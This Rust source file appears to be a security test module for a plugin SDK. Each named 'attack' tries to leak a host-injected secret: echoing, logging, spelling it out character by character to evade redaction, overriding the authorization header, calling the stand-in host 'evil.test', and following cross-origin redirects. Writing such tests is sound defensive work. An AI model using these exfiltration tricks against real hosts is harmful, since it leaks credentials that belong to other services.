//! Reading back a secret that the host places into requests.

use soma_sdk::http::{Method, Request, Response};
use soma_sdk::logging::{self, Level};
use soma_sdk::secret;

use crate::{Outcome, stopped};

const ECHO: &str = "https://bank.test/echo";

pub(crate) fn run(name: &str, argument: &str) -> Outcome {
    match name {
        "present" => Ok(secret::present(argument).to_string()),
        // The server sends back what it was sent.
        "echo" => echo().map(|r| r.text()),
        "echo-error" => Err(echo()?.text()),
        "echo-log" => {
            logging::log(Level::Info, "echo", &echo()?.text());
            Ok("logged".to_owned())
        }
        "echo-header" => {
            let response = echo()?;
            Ok(response.header("x-echo").unwrap_or("no echo").to_owned())
        }
        // Bytes of the secret, one by one, so that no whole value is ever in the text.
        "echo-spelled" => Ok(echo()?.text().chars().map(|c| format!("{c} ")).collect()),
        // A header of our own in the place where the host puts the secret.
        "own-header" => {
            let request = Request::new(Method::Get, ECHO).header("authorization", argument);
            request.send().map(|r| r.text()).map_err(stopped)
        }
        // The secret belongs to bank.test and must not travel to another origin.
        "elsewhere" => {
            let request = Request::new(Method::Get, "https://evil.test/echo");
            request.send().map(|r| r.text()).map_err(stopped)
        }
        // The server of the secret sends us on to another.
        "redirect" => {
            let response =
                Request::new(Method::Get, "https://bank.test/redirect").send().map_err(stopped)?;
            let to = response.header("location").unwrap_or_default().to_owned();
            Request::new(Method::Get, to).send().map(|r| r.text()).map_err(stopped)
        }
        other => panic!("no attack is called secrets.{other}"),
    }
}

fn echo() -> Result<Response, String> {
    Request::new(Method::Get, ECHO).send().map_err(stopped)
}
